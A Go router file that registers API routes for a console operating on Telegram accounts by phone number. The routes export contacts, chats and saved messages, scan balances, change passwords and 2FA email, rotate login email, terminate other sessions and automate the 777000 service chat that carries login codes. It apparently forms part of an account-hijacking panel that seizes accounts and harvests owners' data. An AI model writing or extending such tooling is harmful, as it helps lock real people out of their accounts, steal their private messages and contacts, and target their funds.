package http

import (
	"github.com/fasthttp/router"
	"github.com/rs/zerolog"

	"github.com/arhteh596/granovskicrm-sub001/pkg/httputil"
)

// Router registers console operation HTTP routes
type Router struct {
	handler    *ConsoleHandler
	middleware httputil.Middleware
	logger     zerolog.Logger
}

// NewRouter creates a new console router
func NewRouter(handler *ConsoleHandler, middleware httputil.Middleware, logger zerolog.Logger) *Router {
	return &Router{
		handler:    handler,
		middleware: middleware,
		logger:     logger,
	}
}

// RegisterRoutes registers console routes on the router
func (r *Router) RegisterRoutes(rt *router.Router) {
	mw := r.middleware
	base := "/api/v1/telegram/katka/{phone}"

	rt.POST(base+"/profile", mw(r.handler.Profile))

	rt.POST(base+"/export-contacts", mw(r.handler.ExportContacts))
	rt.POST(base+"/export-chats", mw(r.handler.ExportChats))
	rt.POST(base+"/export-saved-messages", mw(r.handler.ExportSavedMessages))
	rt.POST(base+"/export-dialog", mw(r.handler.ExportDialog))
	rt.POST(base+"/export-contacts-photos", mw(r.handler.ExportContactsWithPhotos))
	rt.POST(base+"/avatar", mw(r.handler.FetchAvatar))
	rt.POST(base+"/scan-balances", mw(r.handler.ScanBalances))

	rt.GET(base+"/2fa-status", mw(r.handler.TwoFAStatus))
	rt.POST(base+"/update-password", mw(r.handler.UpdatePassword))
	rt.POST(base+"/set-2fa-email", mw(r.handler.SetOrUpdate2FAEmail))

	rt.GET(base+"/login-email-status", mw(r.handler.LoginEmailStatus))
	rt.POST(base+"/send-login-email-code", mw(r.handler.SendLoginEmailCode))
	rt.POST(base+"/verify-login-email", mw(r.handler.VerifyLoginEmail))
	rt.POST(base+"/rotate-login-email", mw(r.handler.AutoRotateLoginEmail))

	rt.POST(base+"/terminate-other-sessions", mw(r.handler.TerminateOtherSessions))
	rt.POST(base+"/automate-777000", mw(r.handler.AutomateServiceChat))

	rt.GET(base+"/last-exports", mw(r.handler.LastExports))
	rt.GET(base+"/exports/{kind}/{name}", mw(r.handler.DownloadExport))

	r.logger.Info().Msg("console routes registered")
}
